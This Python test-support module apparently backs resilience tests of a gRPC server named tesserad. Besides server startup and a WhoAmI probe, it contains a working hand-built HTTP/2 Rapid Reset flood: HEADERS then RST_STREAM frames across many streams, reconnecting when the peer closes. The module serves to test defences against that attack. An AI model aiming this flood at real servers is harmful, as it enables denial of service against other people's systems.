"""Shared plumbing of the hostile-network tests: a real tesserad in a temp
dir (optionally under a descriptor limit), its stderr in a file, its memory
from /proc, and a WhoAmI probe through Debian's python3-grpcio."""

import os
import resource
import shutil
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "..", "python"))
from tesserad_process import Failure, TesseradProcess, check  # noqa: E402,F401


class Server(TesseradProcess):
    """tesserad on 127.0.0.1:0 over a fresh data dir."""
    Error = Failure

    def __init__(self, tesserad, root, args=(), nofile=None):
        super().__init__(tesserad, root, flags=args, nofile=nofile)


def whoami(stubs, address, token, timeout):
    """One WhoAmI on a fresh channel; returns the user id or raises."""
    sys.path.insert(0, stubs)
    import grpc
    from tessera.v1 import identity_pb2, identity_pb2_grpc
    with grpc.insecure_channel(address) as channel:
        stub = identity_pb2_grpc.IdentityServiceStub(channel)
        resp = stub.WhoAmI(identity_pb2.WhoAmIRequest(), timeout=timeout,
                           metadata=(("authorization", "Bearer " + token),))
        return resp.user.user_id


def served_within(stubs, address, token, seconds):
    """True if a fresh client gets WhoAmI answered within `seconds`."""
    deadline = time.time() + seconds
    last = None
    while time.time() < deadline:
        try:
            whoami(stubs, address, token,
                   timeout=max(0.5, deadline - time.time()))
            return True, None
        except Exception as e:  # grpc.RpcError, mostly
            last = e
            time.sleep(0.2)
    return False, last


def raise_own_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main(test):
    """Parses --tesserad and --stubs (and test-specific flags given as
    extra); runs test(args, root) in a temp dir; exits 0 on success."""
    import argparse
    ap = argparse.ArgumentParser()
    ap.add_argument("--tesserad", required=True)
    ap.add_argument("--stubs", required=True)
    ap.add_argument("--nginx", default="/usr/sbin/nginx")
    ap.add_argument("--streams", type=int, default=100000)
    ap.add_argument("--keep", action="store_true")
    a = ap.parse_args()
    root = tempfile.mkdtemp(prefix="tessera-hostile-")
    started = time.time()
    try:
        test(a, root)
    except Failure as e:
        print("FAIL:", e, file=sys.stderr)
        return 1
    finally:
        if not a.keep:
            shutil.rmtree(root, ignore_errors=True)
        else:
            print("kept", root, file=sys.stderr)
    print("PASS in %.1fs" % (time.time() - started))
    return 0


# HTTP/2, written by hand so the attack is not limited by a client
# library's bookkeeping (RFC 9113 frames, RFC 7541 static-table HPACK).
H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def h2_frame(ftype, flags, stream, payload):
    n = len(payload)
    return (bytes([n >> 16 & 0xff, n >> 8 & 0xff, n & 0xff, ftype, flags])
            + (stream & 0x7fffffff).to_bytes(4, "big") + payload)


def _hpack_str(s):
    b = s.encode()
    assert len(b) < 127
    return bytes([len(b)]) + b


def grpc_request_headers(path, authority, scheme="http"):
    """A HEADERS block for a gRPC call, without the dynamic table, so that
    the same bytes serve every stream."""
    return (b"\x83"                                          # :method POST
            + (b"\x87" if scheme == "https" else b"\x86")    # :scheme
            + b"\x04" + _hpack_str(path)                     # :path
            + b"\x01" + _hpack_str(authority)                # :authority
            + b"\x0f\x10" + _hpack_str("application/grpc")  # content-type
            + b"\x00" + _hpack_str("te") + _hpack_str("trailers"))


def rapid_reset_bytes(first_stream, count, block):
    """HEADERS then RST_STREAM(CANCEL) on `count` new streams."""
    out = []
    for i in range(count):
        sid = first_stream + 2 * i
        out.append(h2_frame(0x1, 0x4, sid, block))          # END_HEADERS
        out.append(h2_frame(0x3, 0x0, sid, (8).to_bytes(4, "big")))
    return b"".join(out)


def watch_frames(sock):
    """Reads the peer's frames until it closes; returns an Event set when a
    PING acknowledgement arrives or the connection ends. A peer acks a PING
    only after it has processed everything sent before it, so waiting for
    the ack makes sure the attack reached the server's HTTP/2 layer rather
    than a socket buffer that a close would discard."""
    done = threading.Event()

    def run():
        buf = b""
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    n = int.from_bytes(buf[0:3], "big")
                    if len(buf) < 9 + n:
                        break
                    if buf[3] == 0x6 and buf[4] & 0x1:
                        done.set()
                    buf = buf[9 + n:]
        except OSError:
            pass
        done.set()
    threading.Thread(target=run, daemon=True).start()
    return done


def rapid_reset(connect, streams, block, chunk=5000):
    """Sends `streams` HEADERS+RST_STREAM pairs, reconnecting with
    `connect()` whenever the peer closes (as a proxy does after its
    per-connection request limit). Returns (streams sent, connections)."""
    sent = 0
    connections = 0
    while sent < streams:
        sock = connect()
        connections += 1
        processed = watch_frames(sock)
        try:
            sock.sendall(H2_PREFACE + h2_frame(0x4, 0, 0, b""))
            sid = 1
            while sent < streams and sid < (1 << 31) - 2 * chunk:
                n = min(chunk, streams - sent)
                sock.sendall(rapid_reset_bytes(sid, n, block))
                sid += 2 * n
                sent += n
            sock.sendall(h2_frame(0x6, 0, 0, b"tessera!"))
            processed.wait(120)
        except OSError:
            pass
        finally:
            sock.close()
        check(connections <= streams, "peer refuses every connection")
    return sent, connections
